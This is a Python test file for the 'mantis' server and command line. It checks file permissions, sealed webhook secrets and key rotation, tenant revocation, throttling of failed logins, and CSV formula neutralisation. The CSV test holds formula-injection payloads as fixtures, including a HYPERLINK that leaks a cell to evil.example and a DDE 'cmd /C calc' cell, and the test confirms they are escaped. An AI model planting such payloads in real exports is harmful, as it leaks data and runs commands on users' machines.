"""Secrets and tenants at rest, against real `mantis serve` and `mantis` command-line processes: an
owner-only workspace, sealed webhook secrets (and their migration and rotation), revocation that stops a
tenant's runs from another process, throttled failed authentication, and CSV cells no spreadsheet runs."""

from __future__ import annotations

import csv
import html
import io
import json
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from alembic import command
from cryptography.fernet import Fernet, InvalidToken
from tests.conftest import Server, server_env, start_server, stop_server
from tests.pages_server import QuietHandler, serve
from tests.test_cli_runs import mantis as cli_mantis

from mantis.store.db import alembic_config, make_engine

DOM = {"compute_backend": "browser_use_plane"}
HOLD = {"micro": [{"type": "wait", "timeout_s": 120, "params": {"seconds": 120}}], **DOM}


def mantis(home: Path, *args: str, **env: str) -> list[str]:
    """Runs the real command line on a workspace; returns its output lines."""
    out = subprocess.run(
        [sys.executable, "-m", "mantis.cli.main", *args],
        env=server_env(home, **env),
        capture_output=True,
        text=True,
        check=True,
    )
    return out.stdout.strip().splitlines()


def stored_secret(home: Path, name: str) -> str:
    with sqlite3.connect(home / "mantis.db") as db:
        row = db.execute("SELECT webhook_secret FROM tenants WHERE name = ?", (name,)).fetchone()
    return str(row[0])


def run_status(server: Server, run_id: str) -> str:
    with sqlite3.connect(server.home / "mantis.db") as db:
        return str(db.execute("SELECT status FROM runs WHERE id = ?", (run_id,)).fetchone()[0])


def test_the_workspace_a_run_and_the_database_are_owner_only(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o755)
    home.chmod(0o755)  # as an older version, or a loose umask, left it
    server = start_server(home)
    try:
        run_id = server.predict({"micro": [{"type": "wait", "params": {"seconds": 0.1}}], **DOM}).json()
        server.wait(run_id["run_id"])
        loose = []
        for path in [home, *home.rglob("*")]:
            mode = path.lstat().st_mode
            wanted = 0o700 if stat.S_ISDIR(mode) else 0o600 if stat.S_ISREG(mode) else None
            if wanted is not None and stat.S_IMODE(mode) != wanted:
                loose.append((str(path), oct(stat.S_IMODE(mode))))
        run_dir = home / "runs" / run_id["run_id"]
        assert (run_dir / "result.json").is_file() and (home / "mantis.db").is_file()
        assert loose == []
    finally:
        stop_server(server)


def test_webhook_secrets_are_sealed_in_the_database(tmp_path: Path) -> None:
    home = tmp_path / "home"
    lines = mantis(home, "tenants", "create", "acme")
    secret = lines[-2].removeprefix("webhook_secret: ")
    assert secret.startswith("whsec_")
    assert stored_secret(home, "acme").startswith("fernet:")
    for path in home.glob("mantis.db*"):  # the database and its write-ahead log
        assert secret.encode() not in path.read_bytes()
    key = (home / "secret.key").read_text().strip()
    sealed = stored_secret(home, "acme").removeprefix("fernet:")
    assert Fernet(key.encode()).decrypt(sealed.encode()).decode() == secret


def test_plain_secrets_of_an_older_version_are_sealed_on_start(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    engine = make_engine(f"sqlite:///{home / 'mantis.db'}")
    cfg = alembic_config()
    with engine.begin() as connection:
        cfg.attributes["connection"] = connection
        command.upgrade(cfg, "0003")  # the schema before secrets were sealed
        connection.exec_driver_sql(
            "INSERT INTO tenants (id, name, scopes, allowed_domains, webhook_secret, created_at) "
            "VALUES ('t_old', 'old', '[]', '[]', 'whsec_plain-old-secret', '2026-01-01 00:00:00')"
        )
    engine.dispose()
    mantis(home, "tenants", "list")  # any process that opens the store migrates it
    assert stored_secret(home, "old").startswith("fernet:")
    key = (home / "secret.key").read_text().strip().encode()
    opened = Fernet(key).decrypt(stored_secret(home, "old").removeprefix("fernet:").encode())
    assert opened == b"whsec_plain-old-secret"


def test_rotating_the_key_reseals_every_secret(tmp_path: Path) -> None:
    home = tmp_path / "home"
    old, new = Fernet.generate_key().decode(), mantis(tmp_path, "secrets", "new-key")[-1]
    secret = mantis(home, "tenants", "create", "acme", MANTIS_SECRET_KEYS=old)[-2].split(": ", 1)[1]
    assert not (home / "secret.key").exists()  # the operator's key, not a file beside the database
    out = mantis(home, "secrets", "rotate", MANTIS_SECRET_KEYS=f"{new},{old}")
    assert out[-1] == "resealed 1 webhook secrets under the newest key"
    sealed = stored_secret(home, "acme").removeprefix("fernet:").encode()
    assert Fernet(new.encode()).decrypt(sealed).decode() == secret
    with pytest.raises(InvalidToken):
        Fernet(old.encode()).decrypt(sealed)


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    running = start_server(tmp_path / "home", MANTIS_WORKERS="2", MANTIS_RATE_LIMIT_PER_S="0")
    yield running
    stop_server(running)


def test_revoking_a_tenant_from_the_command_line_stops_its_runs(server: Server) -> None:
    token = server.tenant("acme", "--max-concurrent", "1")
    running = server.predict(HOLD, token=token).json()["run_id"]
    server.wait(running, token=token, until=("running",))
    queued = [server.predict(HOLD, token=token).json()["run_id"] for _ in range(2)]
    other = server.predict(HOLD).json()["run_id"]  # another tenant's run goes on
    out = mantis(server.home, "tenants", "revoke", "acme")
    assert out[-1] == "revoked acme: 2 queued runs cancelled, 1 running runs stopping"
    assert [run_status(server, run_id) for run_id in queued] == ["cancelled", "cancelled"]
    deadline = time.monotonic() + 30
    while run_status(server, running) != "cancelled" and time.monotonic() < deadline:
        time.sleep(0.2)
    assert run_status(server, running) == "cancelled"
    assert server.predict({"action": "list"}, token=token).status_code == 401
    assert server.status(other)["status"] in ("queued", "running")
    server.predict({"action": "cancel", "run_id": other})


def test_failed_authentication_is_throttled_per_client_address(server: Server) -> None:
    url = f"{server.url}/v1/predict"
    body = {"action": "list"}

    def call(token: str, address: str) -> httpx.Response:
        # uvicorn takes X-Forwarded-For from a proxy on 127.0.0.1: the tests stand in for two clients
        headers = {"X-Mantis-Token": token, "X-Forwarded-For": address}
        return httpx.post(url, json=body, headers=headers, timeout=30)

    answers = [call("mt_guess", "198.51.100.7").status_code for _ in range(10)]
    assert answers == [401] * 10
    throttled = call("mt_guess", "198.51.100.7")
    assert throttled.status_code == 429 and throttled.json()["error"]["code"] == "rate_limited"
    assert int(throttled.headers["Retry-After"]) >= 1
    assert call(server.token, "198.51.100.7").status_code == 429  # a valid token waits too
    assert call(server.token, "198.51.100.8").status_code == 200  # another address does not
    assert call("mt_guess", "198.51.100.8").status_code == 401


# Cells a spreadsheet would run; the labels beside them are plain text and stay as they are.
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus": "+1 555 0100",
    "minus": "-42",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@contextmanager
def table_page() -> Iterator[str]:
    """A page with a table of formula-like cells, on loopback."""
    rows = "".join(f"<tr><td>{k}</td><td>{html.escape(v)}</td></tr>" for k, v in FORMULAS.items())
    page = (
        "<!doctype html><html><body><h2>Ledger</h2><table><thead><tr><th>Label</th><th>Cell</th></tr>"
        f"</thead><tbody>{rows}</tbody></table></body></html>"
    ).encode()

    class Handler(QuietHandler):
        def do_GET(self) -> None:
            self.reply(page)

    with serve(Handler) as url:
        yield f"{url}/ledger"


def test_csv_cells_are_neutralised_and_json_keeps_the_values(server: Server) -> None:
    with table_page() as url:
        fields = [{"name": "label"}, {"name": "cell"}]
        extract = {"schema_name": "ledger", "fields": fields, "max_items": 10}
        steps = [{"type": "navigate", "params": {"url": url}}, {"type": "extract_data", "extract": extract}]
        run_id = server.predict({"micro": steps, **DOM}).json()["run_id"]
        ended = server.wait(run_id)
    assert ended["status"] == "succeeded", ended

    def artifact(name: str) -> str:
        response = httpx.get(f"{server.url}/v1/runs/{run_id}/artifacts/{name}", headers=server.headers())
        assert response.status_code == 200, response.text
        return response.text

    exact = {r["label"]: r["cell"] for r in json.loads(artifact("extracted_rows.json"))}
    assert exact == FORMULAS
    for name in ("extracted_rows.csv", "leads.csv", "ledger.csv"):
        cells = {r["label"]: r["cell"] for r in csv.DictReader(io.StringIO(artifact(name)))}
        assert cells == {label: "'" + cell for label, cell in FORMULAS.items()}, name
    printed = cli_mantis(server, "result", run_id, "-o", "csv").stdout  # the command line's CSV too
    cells = {r["label"]: r["cell"] for r in csv.DictReader(io.StringIO(printed))}
    assert cells == {label: "'" + cell for label, cell in FORMULAS.items()}
